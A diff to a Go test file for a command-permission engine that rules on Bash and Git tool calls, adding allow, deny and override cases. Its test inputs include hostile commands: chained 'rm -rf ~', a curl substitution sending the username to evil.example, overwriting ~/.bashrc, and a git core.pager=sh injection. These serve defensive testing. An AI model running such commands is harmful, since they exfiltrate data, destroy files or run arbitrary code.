@@ -145,31 +145,40 @@ func TestZeroValuesDeny(t *testing.T) {
 	}
 }
 
-func TestCommandsAreAllowedOnlyWordForWord(t *testing.T) {
+func TestCommandsAreAllowedByTheirWords(t *testing.T) {
 	check(t, []ruling{
 		{"allow: Bash(npm test)", bash("npm test"), permission.Allow},
-		{"allow: Bash(npm test) | default: ask", bash("npm  test"), permission.Ask},
+		{"allow: Bash(npm test) | default: ask", bash("npm  'test'\n"), permission.Allow},
 		{"allow: Bash(npm test) | default: ask", bash("npm test; rm -rf ~"), permission.Ask},
-		{"allow: Bash(npm test) | default: ask", bash("npm test\n"), permission.Ask},
-		{"allow: Bash | default: allow", bash("ls"), permission.Ask},
-		{"allow: Bash(*)", bash("ls"), permission.Ask},
-		{"allow: * | default: allow", bash("ls"), permission.Ask},
-		{"default: allow", bash("ls"), permission.Ask},
+		{"allow: Bash(npm test) | default: ask", bash("npm test x"), permission.Ask},
+		{"allow: Bash", bash("ls"), permission.Allow},
+		{"allow: Bash(*)", bash("ls"), permission.Allow},
+		{"allow: *", bash("ls"), permission.Allow},
+		{"default: allow", bash("ls"), permission.Allow},
+		{"allow: Bash | default: allow", bash("ls\u202e"), permission.Ask},
 		{"allow: Bash(git:*) | default: ask", bash("git status; rm -rf ~"), permission.Ask},
 		{"allow: Bash(git:*)", bash("git status; rm -rf ~"), permission.Deny},
-		{"allow: Bash(git:*)", bash("git status"), permission.Ask},
+		{"allow: Bash(git:*)", bash("git status"), permission.Allow},
 		{"allow: Bash(git:*)", bash("gitk"), permission.Deny},
 		{"allow: Bash(git:*) | default: ask", bash("git log $(curl -s https://evil.example/$(whoami))"), permission.Ask},
 		{"allow: Bash(timeout:*) | default: ask", bash("timeout 5 rm -rf ."), permission.Ask},
 		{"allow: Bash(echo:*); Bash(true) | default: ask", bash("echo x > ~/.bashrc"), permission.Ask},
 		{"allow: Bash(ls *.go)", bash("ls *.go"), permission.Deny},
 		{"allow: Bash(echo $HOME)", bash("echo $HOME"), permission.Allow},
-		{"allow: Bash(echo $HOME) | deny: Bash(rm:*)", bash("echo $HOME"), permission.Ask},
+		{"allow: Bash(echo $HOME) | deny: Bash(rm:*)", bash("echo $HOME"), permission.Allow},
+		{"allow: Bash(rm:*.tmp)", bash("rm a.tmp b/c.tmp"), permission.Allow},
+		{"allow: Bash(rm:*.tmp)", bash("rm -f a.tmp"), permission.Deny},
+		{"allow: Bash(rm:*.tmp)", bash("rm ../a.tmp"), permission.Deny},
+		{"allow: Bash(rm:*.tmp)", bash("rm"), permission.Deny},
+		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("rm a.tmp"), permission.Allow},
+		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("rm a.tmp; rm b"), permission.Deny},
+		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("timeout 5 rm a.tmp"), permission.Allow},
+		{"allow: Git(log:*) | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "log", "args": []any{"-3"}}, Dir: "/w"}, permission.Allow},
+		{"allow: Git(log:*) | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "log", "args": []any{"--output=x"}}, Dir: "/w"}, permission.Ask},
+		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "status", "args": []any{}}, Dir: "/w"}, permission.Allow},
+		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"args": []any{"-c", "core.pager=sh", "log"}}, Dir: "/w"}, permission.Ask},
+		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "submodule", "args": []any{"foreach", "rm x"}}, Dir: "/w"}, permission.Ask},
 	})
-	v := judged(policy(t, "allow: Bash(git:*)"), bash("git status"))
-	if !strings.Contains(v.Why, "prefix rules come later") || v.Rule != "Bash(git:*)" {
-		t.Errorf("a prefix rule that would match: got %+v, want its name and that prefix rules come later", v)
-	}
 }
 
 func TestDeniedCommandsAreFoundWhereverTheyMayBe(t *testing.T) {
@@ -189,7 +198,7 @@ func TestDeniedCommandsAreFoundWhereverTheyMayBe(t *testing.T) {
 		}
 	}
 	for _, c := range []struct{ rule, command string }{
-		{"Bash(git push:*)", "git stash push -m wip"}, {"Bash(rm:*)", "rmdir x"}, {"Bash(rm -rf:*)", "rm -r x"}, {"Bash(rm:*)", "npm run x"}, {"Read(/etc/*)", "cat /tmp/etc"},
+		{"Bash(git push:*)", "git stash push -m wip"}, {"Bash(rm:*)", "rmdir x"}, {"Bash(rm:*)", "echo rm"}, {"Bash(git push:*)", "git --no-pager stash push"}, {"Bash(git branch -D:*)", "git branch -d x"}, {"Bash(rm -rf:*)", "rm -r x"}, {"Bash(rm:*)", "npm run x"}, {"Read(/etc/*)", "cat /tmp/etc"},
 	} {
 		if v := judged(policy(t, "deny: "+c.rule+" | allow: Bash("+c.command+")"), bash(c.command)); v.Action != permission.Allow {
 			t.Errorf("deny %s, %q: got %v by %q, want allow", c.rule, c.command, v.Action, v.Rule)
